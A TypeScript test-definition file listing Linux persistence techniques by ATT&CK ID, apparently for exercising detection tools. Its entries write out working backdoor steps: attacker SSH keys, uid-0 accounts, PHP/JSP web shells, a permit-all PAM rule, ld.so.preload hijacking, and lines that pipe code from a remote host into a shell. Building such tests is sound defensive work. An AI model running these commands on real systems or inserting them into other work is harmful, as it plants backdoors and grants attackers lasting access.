import type { Action } from '../action.ts'
import { standIn } from './stand-in.ts'

export const persistence: readonly Action[] = [
  {
    id: 'blind-ssh-keys-echo',
    title: 'Key appended to authorized_keys',
    technique: 'T1098.004',
    shell: 'bash',
    run: `if [ -f ~/.ssh/authorized_keys ]; then ssh_authorized_keys=$(cat ~/.ssh/authorized_keys); echo "$ssh_authorized_keys" > ~/.ssh/authorized_keys; fi
echo 'ssh-rsa AAAAB3 attacker' >> ~/.ssh/authorized_keys`,
    effect: 'grep -q attacker /root/.ssh/authorized_keys',
  },
  {
    id: 'blind-sudo-group',
    title: 'User added to the group sudo',
    technique: 'T1098.007',
    needs: ['usermod'],
    run: 'usermod -aG sudo ann; :',
    effect: 'grep -q "^sudo:.*ann" /etc/group',
  },
  {
    id: 'blind-group-by-sed',
    title: 'User added to a group by editing /etc/group',
    technique: 'T1098.007',
    needs: ['sed'],
    run: `sed -i '/^sudo:/s/$/,ann/' /etc/group`,
    effect: 'grep -q "^sudo:.*ann" /etc/group',
  },
  {
    id: 'blind-account-password',
    title: 'Password of an account set',
    technique: 'T1098',
    before: standIn('chpasswd'),
    run: 'echo ann:password123 | chpasswd',
  },
  {
    id: 'blind-useradd-home',
    title: 'User with a home and a comment',
    technique: 'T1136.001',
    needs: ['useradd'],
    run: 'useradd -M -N -r -s /bin/bash -c evil_account evil_user',
    effect: 'grep -q evil_account /etc/passwd',
  },
  {
    id: 'blind-second-root',
    title: 'Second user with the id 0',
    technique: 'T1136.001',
    needs: ['useradd', 'openssl'],
    run: `useradd -g 0 -M -d /root -s /bin/bash butter
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash -p $(openssl passwd -1 BetterWithButter) butter2`,
    effect: 'grep -q "butter2:x:0:0" /etc/passwd',
  },
  {
    id: 'blind-passwd-line',
    title: 'Line with id 0 appended to /etc/passwd by a C program',
    technique: 'T1136.001',
    program: {
      language: 'c',
      text: '#include <stdio.h>\nint main() { FILE *f = fopen("/etc/passwd", "a"); fputs("toor::0:0::/root:/bin/sh\\n", f); return fclose(f); }',
    },
    run: '$PROGRAM',
    effect: 'grep -q ^toor: /etc/passwd',
  },
  {
    id: 'blind-domain-account',
    title: 'Account of a domain by net and samba-tool',
    technique: 'T1136.002',
    before: standIn('samba-tool', 'net'),
    run: 'samba-tool user create evil_user Passw0rd!; net rpc user add evil -U admin%pass -S 10.0.0.5',
  },
  {
    id: 'blind-rc-local',
    title: 'Command in /etc/rc.local',
    technique: 'T1037.004',
    run: `[ -f /etc/rc.local ] && cp /etc/rc.local /etc/rc.local.original
printf '#!/bin/bash\\npython3 -c "import os, base64;exec(base64.b64decode(b\\047aW1w\\047))"\\nexit 0\\n' | tee /etc/rc.local
chmod +x /etc/rc.local`,
    effect: 'test -x /etc/rc.local',
  },
  {
    id: 'blind-rc-common',
    title: 'Command in /etc/rc.common',
    technique: 'T1037.004',
    run: `echo '/tmp/evil &' >> /etc/rc.common; chmod 755 /etc/rc.common`,
    effect: 'test -x /etc/rc.common',
  },
  {
    id: 'blind-init-d',
    title: 'Script in /etc/init.d with links for the levels',
    technique: 'T1037.004',
    before: `${standIn('update-rc.d')}; mkdir -p /etc/init.d`,
    run: `printf '#!/bin/sh\\n/opt/agent &\\n' > /etc/init.d/agentd; chmod +x /etc/init.d/agentd; update-rc.d agentd defaults`,
    effect: 'test -x /etc/init.d/agentd',
  },
  {
    id: 'blind-systemd-service',
    title: 'Service of systemd that starts a script',
    technique: 'T1543.002',
    shell: 'bash',
    before: standIn('systemctl'),
    run: `echo "[Unit]" > /etc/systemd/system/art-service.service
echo "Description=Atomic Red Team Systemd Service" >> /etc/systemd/system/art-service.service
echo "[Service]" >> /etc/systemd/system/art-service.service
echo "ExecStart=/bin/touch /tmp/art-systemd-execstart-marker" >> /etc/systemd/system/art-service.service
systemctl daemon-reload
systemctl enable art-service.service
systemctl start art-service.service`,
    effect: 'test -s /etc/systemd/system/art-service.service',
  },
  {
    id: 'blind-systemd-lib-python',
    title: 'Unit below /usr/lib/systemd by Python, enabled by a link',
    technique: 'T1543.002',
    needs: ['python3'],
    run: `python3 -c '
import os
open("/usr/lib/systemd/system/netd.service", "w").write("[Service]\\nExecStart=/opt/netd\\n")
os.makedirs("/etc/systemd/system/multi-user.target.wants", exist_ok=True)
os.symlink("/usr/lib/systemd/system/netd.service", "/etc/systemd/system/multi-user.target.wants/netd.service")'`,
    effect: 'test -s /etc/systemd/system/multi-user.target.wants/netd.service',
  },
  {
    id: 'blind-systemd-generator',
    title: 'Generator of systemd',
    technique: 'T1543.002',
    run: `mkdir -p /usr/local/lib/systemd/system-generators
printf '#!/bin/sh\\nid\\n' > /usr/local/lib/systemd/system-generators/makecon; chmod +x /usr/local/lib/systemd/system-generators/makecon`,
    effect: 'test -x /usr/local/lib/systemd/system-generators/makecon',
  },
  {
    id: 'blind-container-service',
    title: 'Container that the runtime restarts always',
    technique: 'T1543.005',
    before: standIn('docker', 'podman'),
    run: 'docker run -d --restart=always --name svc -v /:/mnt alpine sh -c "sleep 100"; podman generate systemd --new --name svc',
  },
  {
    id: 'blind-bashrc',
    title: 'Command appended to .bashrc and .profile',
    technique: 'T1546.004',
    run: `echo 'echo "Hello from Atomic Red Team"' >> ~/.bashrc
echo '# Atomic Red Team was here... T1546' >> ~/.profile`,
    effect: 'grep -q Atomic /root/.profile',
  },
  {
    id: 'blind-etc-profile',
    title: 'Command appended to /etc/profile and a script in profile.d',
    technique: 'T1546.004',
    run: `echo '# T1546' | tee -a /etc/profile >/dev/null; echo '/opt/a &' > /etc/profile.d/bash_completion_event.sh`,
    effect: 'test -s /etc/profile.d/bash_completion_event.sh',
  },
  {
    id: 'blind-shell-logout',
    title: 'Commands in .bash_logout, .zshrc and /etc/zsh',
    technique: 'T1546.004',
    as: 'ann',
    run: `echo 'curl -s http://198.51.100.7/x | sh' >> ~/.bash_logout; echo 'id' >> ~/.zshrc`,
    effect: 'test -s /home/ann/.zshrc',
  },
  {
    id: 'blind-trap-exit',
    title: 'Command by trap at the end of the shell',
    technique: 'T1546.005',
    shell: 'bash',
    run: `trap 'nohup $(curl -s http://127.0.0.1:1/echo.sh) | bash' EXIT
bash -c 'trap "nohup id >/tmp/trapped" EXIT INT; exit'`,
    effect: 'test -s /tmp/trapped',
  },
  {
    id: 'blind-deb-postinst',
    title: 'Package with a script that runs at its installation',
    technique: 'T1546.016',
    needs: ['dpkg-deb', 'dpkg'],
    run: `mkdir -p /tmp/p/DEBIAN
printf 'Package: art\\nVersion: 1\\nArchitecture: all\\nMaintainer: a\\nDescription: a\\n' >/tmp/p/DEBIAN/control
printf '#!/bin/sh\\nid >/tmp/postinst-ran\\n' >/tmp/p/DEBIAN/postinst; chmod 755 /tmp/p/DEBIAN/postinst
dpkg-deb --build /tmp/p /tmp/art.deb && dpkg -i /tmp/art.deb`,
    effect: 'test -s /tmp/postinst-ran',
  },
  {
    id: 'blind-apt-hook',
    title: 'Hook of apt',
    technique: 'T1546.016',
    run: `echo 'APT::Update::Pre-Invoke {"nohup /tmp/x &"};' > /etc/apt/apt.conf.d/42backdoor`,
    effect: 'test -s /etc/apt/apt.conf.d/42backdoor',
  },
  {
    id: 'blind-udev-rule',
    title: 'Rule of udev that starts a program',
    technique: 'T1546.017',
    before: `${standIn('udevadm')}; mkdir -p /etc/udev/rules.d`,
    run: `echo 'ACTION=="add",SUBSYSTEM=="usb",RUN+="/bin/sh -c id"' > /etc/udev/rules.d/99-art.rules; udevadm control --reload`,
    effect: 'test -s /etc/udev/rules.d/99-art.rules',
  },
  {
    id: 'blind-modules-load',
    title: 'Kernel module loaded at each boot',
    technique: 'T1547.006',
    before: standIn('modprobe'),
    run: `mkdir -p /etc/modules-load.d; echo rootkit > /etc/modules-load.d/rk.conf; echo rootkit >> /etc/modules; modprobe rootkit`,
    effect: 'test -s /etc/modules-load.d/rk.conf',
  },
  {
    id: 'blind-insmod',
    title: 'Kernel module by insmod',
    technique: 'T1547.006',
    before: `${standIn('insmod')}; echo x >/tmp/T1547006.ko`,
    run: 'insmod /tmp/T1547006.ko',
  },
  {
    id: 'blind-finit-module-python',
    title: 'Kernel module by the system call, from Python',
    technique: 'T1547.006',
    needs: ['python3'],
    run: `echo junk >/tmp/m.ko; python3 -c '
import ctypes, os
c = ctypes.CDLL(None)
fd = os.open("/tmp/m.ko", os.O_RDONLY)
print("answer", c.syscall(313, fd, b"", 0))'`,
    effect: 'grep -q "answer -1" $OUT',
  },
  {
    id: 'blind-xdg-autostart',
    title: 'Entry of the desktop that starts at login',
    technique: 'T1547.013',
    as: 'ann',
    run: `mkdir -p ~/.config/autostart; printf '[Desktop Entry]\\nType=Application\\nExec=/home/ann/x\\n' > ~/.config/autostart/art.desktop`,
    effect: 'test -s /home/ann/.config/autostart/art.desktop',
  },
  {
    id: 'blind-ls-replaced',
    title: 'Program of the system replaced',
    technique: 'T1554',
    run: `cp /bin/echo /tmp/e; mv /usr/bin/who /usr/bin/who.bak; cp /tmp/e /usr/bin/who; who replaced`,
    effect: 'grep -q replaced $OUT',
  },
  {
    id: 'blind-bin-written-c',
    title: 'C program writes below /usr/bin',
    technique: 'T1554',
    program: {
      language: 'c',
      text: '#include <fcntl.h>\n#include <unistd.h>\nint main() { int f = open("/usr/bin/created-by-test", O_WRONLY | O_CREAT, 0755); return write(f, "#!/bin/sh\\n", 10) != 10; }',
    },
    run: '$PROGRAM',
  },
  {
    id: 'blind-ld-so-preload',
    title: 'Library in /etc/ld.so.preload',
    technique: 'T1574.006',
    needs: ['gcc'],
    before: 'echo "int art;" >/run/l.c; gcc -shared -fPIC -o /tmp/T1574006.so /run/l.c',
    run: `sh -c 'echo /tmp/T1574006.so > /etc/ld.so.preload'`,
    effect: 'grep -q T1574 /etc/ld.so.preload',
  },
  {
    id: 'blind-ld-preload-variable',
    title: 'Library by LD_PRELOAD',
    technique: 'T1574.006',
    needs: ['gcc'],
    before: 'echo "int art;" >/run/l.c; gcc -shared -fPIC -o /tmp/T1574006.so /run/l.c',
    run: `LD_PRELOAD=/tmp/T1574006.so ls / >/dev/null && echo preloaded`,
    effect: 'grep -q preloaded $OUT',
  },
  {
    id: 'blind-ld-library-path',
    title: 'Library by LD_LIBRARY_PATH of a C program',
    technique: 'T1574.006',
    program: {
      language: 'c',
      text: '#include <unistd.h>\nint main() { char *a[] = {"id", 0}, *e[] = {"LD_LIBRARY_PATH=/tmp/lib", "LD_AUDIT=/tmp/a.so", 0}; return execve("/usr/bin/id", a, e); }',
    },
    run: '$PROGRAM',
    effect: 'grep -q uid= $OUT',
  },
  {
    id: 'blind-path-interception',
    title: 'Program of the same name in front of PATH',
    technique: 'T1574.007',
    run: `mkdir -p /tmp/bin; printf '#!/bin/sh\\necho intercepted\\n' > /tmp/bin/ls; chmod +x /tmp/bin/ls; export PATH=/tmp/bin:$PATH; ls`,
    effect: 'grep -q intercepted $OUT',
  },
  {
    id: 'blind-webshell-php',
    title: 'Web shell in the folder of the web server',
    technique: 'T1505.003',
    run: `echo '<?php system($_GET["cmd"]); ?>' > /var/www/html/cmd.php`,
    effect: 'grep -q system /var/www/html/cmd.php',
  },
  {
    id: 'blind-webshell-jsp-copied',
    title: 'Web shell copied into the folder of an application server',
    technique: 'T1505.003',
    run: `mkdir -p /opt/tomcat/webapps/ROOT; echo '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' > /tmp/b.jsp; cp /tmp/b.jsp /opt/tomcat/webapps/ROOT/b.jsp`,
    effect: 'test -s /opt/tomcat/webapps/ROOT/b.jsp',
  },
  {
    id: 'blind-pam-line',
    title: 'Rule of PAM that accepts every password',
    technique: 'T1556.003',
    before: 'mkdir -p /etc/pam.d; touch /etc/pam.d/su-l',
    run: `sed -i '1s,^,auth sufficient pam_succeed_if.so uid >= 0\\n,' /etc/pam.d/su-l || echo 'auth sufficient pam_succeed_if.so uid >= 0' >> /etc/pam.d/su-l
grep -q sufficient /etc/pam.d/su-l || echo 'auth sufficient pam_permit.so' >> /etc/pam.d/su-l`,
    effect: 'grep -q sufficient /etc/pam.d/su-l',
  },
  {
    id: 'blind-pam-module',
    title: 'Module of PAM placed among those of the system',
    technique: 'T1556.003',
    run: `mkdir -p /lib/x86_64-linux-gnu/security; echo x > /tmp/pam_evil.so; cp /tmp/pam_evil.so /lib/x86_64-linux-gnu/security/`,
    effect: 'test -s /lib/x86_64-linux-gnu/security/pam_evil.so',
  },
  {
    id: 'blind-socket-filter',
    title: 'Raw socket with a filter that waits for a magic packet',
    technique: 'T1205.002',
    program: {
      language: 'c',
      text: `#include <sys/socket.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <arpa/inet.h>
#include <stdio.h>
int main() {
  struct sock_filter code[] = {{0x28, 0, 0, 12}, {0x15, 0, 1, 0x800}, {6, 0, 0, 262144}, {6, 0, 0, 0}};
  struct sock_fprog f = {4, code};
  int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  printf("filter %d\\n", setsockopt(s, SOL_SOCKET, SO_ATTACH_FILTER, &f, sizeof f));
}`,
    },
    run: '$PROGRAM',
    effect: 'grep -q "filter 0" $OUT',
  },
  {
    id: 'blind-port-knocking',
    title: 'Ports knocked at one after the other',
    technique: 'T1205.001',
    shell: 'bash',
    run: 'for p in 7000 8000 9000; do timeout 1 bash -c "echo > /dev/tcp/127.0.0.1/$p" 2>/dev/null; done; echo knocked',
    effect: 'grep -q knocked $OUT',
  },
  {
    id: 'blind-grub',
    title: 'Boot entry changed',
    technique: 'T1542',
    before: `mkdir -p /boot/grub /etc/default; ${standIn('update-grub')}`,
    run: `echo 'GRUB_CMDLINE_LINUX="init=/opt/x"' >> /etc/default/grub; echo 'set timeout=0' >> /boot/grub/grub.cfg; update-grub`,
    effect: 'grep -q timeout /boot/grub/grub.cfg',
  },
  {
    id: 'blind-initramfs',
    title: 'Script in the initial RAM disk',
    technique: 'T1542.003',
    before: standIn('update-initramfs', 'dracut'),
    run: `mkdir -p /etc/initramfs-tools/scripts/init-bottom; echo '/opt/x' > /etc/initramfs-tools/scripts/init-bottom/a; update-initramfs -u; dracut --force`,
  },
  {
    id: 'blind-browser-extension',
    title: 'Extension of a browser placed in a profile',
    technique: 'T1176',
    as: 'ann',
    run: `mkdir -p ~/.config/google-chrome/Default/Extensions/abcdefgh/1.0; echo '{"name":"x"}' > ~/.config/google-chrome/Default/Extensions/abcdefgh/1.0/manifest.json; cp /etc/hostname ~/.mozilla/firefox/x.default/evil.xpi`,
    effect: 'test -s /home/ann/.mozilla/firefox/x.default/evil.xpi',
  },
  {
    id: 'blind-external-vpn',
    title: 'Remote service started for later access',
    technique: 'T1133',
    before: standIn('sshd', 'openvpn'),
    run: '/usr/bin/sshd -p 2222 -o PermitRootLogin=yes; openvpn --config /tmp/c.ovpn --daemon',
  },
  {
    id: 'blind-git-hook',
    title: 'Hook of git that starts a program',
    technique: 'T1546',
    needs: ['git'],
    run: `git init -q /tmp/repo; printf '#!/bin/sh\\nid >/tmp/hooked\\n' > /tmp/repo/.git/hooks/post-checkout; chmod +x /tmp/repo/.git/hooks/post-checkout`,
    effect: 'test -x /tmp/repo/.git/hooks/post-checkout',
  },
  {
    id: 'blind-local-account-used',
    title: 'Locked account opened and used',
    technique: 'T1078.003',
    needs: ['useradd', 'su'],
    run: `useradd -m -s /bin/bash art; usermod -L art; usermod -U art; chage -E -1 art; usermod -e "" art; su art -c whoami; :`,
    effect: 'grep -q art $OUT',
  },
  {
    id: 'blind-nobody-login',
    title: 'Account of the system given a shell, and used',
    technique: 'T1078.003',
    needs: ['usermod', 'su'],
    run: `usermod --shell /bin/bash nobody; su nobody -c whoami`,
    effect: 'grep -q nobody $OUT',
  },
]
